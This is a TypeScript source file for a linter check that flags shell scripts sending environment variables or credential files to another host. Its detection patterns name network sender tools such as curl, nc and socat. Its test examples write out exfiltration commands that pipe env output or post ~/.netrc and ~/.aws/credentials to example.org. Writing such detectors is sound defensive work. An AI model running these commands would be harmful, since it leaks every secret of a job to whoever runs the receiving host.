import type { Check } from "../check.ts";
import { type Span, span } from "../../../core/span.ts";
import { credentialsAt } from "../pipeline/credential-paths.ts";
import type { Command, Word } from "../shell/script.ts";

const senders = /^(?:curl|wget|nc|ncat|netcat|socat|http|https)$/;
const dumped = /\$\((?:env|printenv|set|export -p|declare -p)(?:\s*\|\s*base64[^)|]*)?\)/;

const isDump = ({ name, words }: Command): boolean =>
  (name === "env" || name === "printenv" || name === "set") && words.length === 0;

/** `@FILE`, `name=@FILE`, `--upload-file FILE` is none. */
const isCredentialFile = (text: string): boolean => {
  const path = /(?:^|=)@(.+)$/.exec(text)?.[1];
  return path !== undefined && credentialsAt(path.replaceAll(/["']/g, "")) !== undefined;
};

/** Where in the word it stands: behind the quote, the name. */
const placeIn = ({ text, at }: Word): Span => {
  const found = dumped.exec(text) ?? /@.+$/.exec(text);
  const quote = at.end - at.start > text.length ? 1 : 0;
  const start = at.start + quote + (found?.index ?? 0);
  return span(start, start + (found?.[0].length ?? text.length));
};

export const sentEnvironment: Check = {
  id: "sent-environment",
  title: "Environment or file of credentials is sent to another host",
  looksAt: "script",
  severity: "critical",
  confidence: "high",
  why: "Whoever runs the host has every secret of the job. It is how stolen pipelines report home, and how debug lines stay behind.",
  instead: "Take it out, and take back each secret that the job had.",
  references: [
    "https://attack.mitre.org/techniques/T1567/",
    "https://cwe.mitre.org/data/definitions/532.html",
  ],
  examples: {
    found: [
      {
        path: "a.sh",
        text: `«env» | curl -d @- https://example.org
curl -F f=«@$HOME/.netrc» https://example.org
curl -d "«$(printenv)»" https://example.org
nc example.org 99 < «~/.aws/credentials»
`,
      },
    ],
    ignored: [
      {
        path: "a.sh",
        text: `env | sort
curl -d @payload.json https://example.org
curl --netrc https://example.org
curl -d "$(env | wc -l)" https://example.org
`,
      },
    ],
  },

  *run({ commands, fragment: { source } }) {
    for (const command of commands) {
      const { name, words, redirects, piped, at } = command;
      if (isDump(command) && piped.some((each) => senders.test(each)))
        yield { message: "sends every variable to another host", source, at };
      if (!senders.test(name)) continue;
      for (const word of words)
        if (dumped.test(word.text) || isCredentialFile(word.text))
          yield { message: "sends what proves who you are", source, at: placeIn(word) };
      for (const { operator, to } of redirects)
        if (operator === "<" && credentialsAt(to.text) !== undefined)
          yield { message: "sends a file of credentials", source, at: to.at };
    }
  },
};
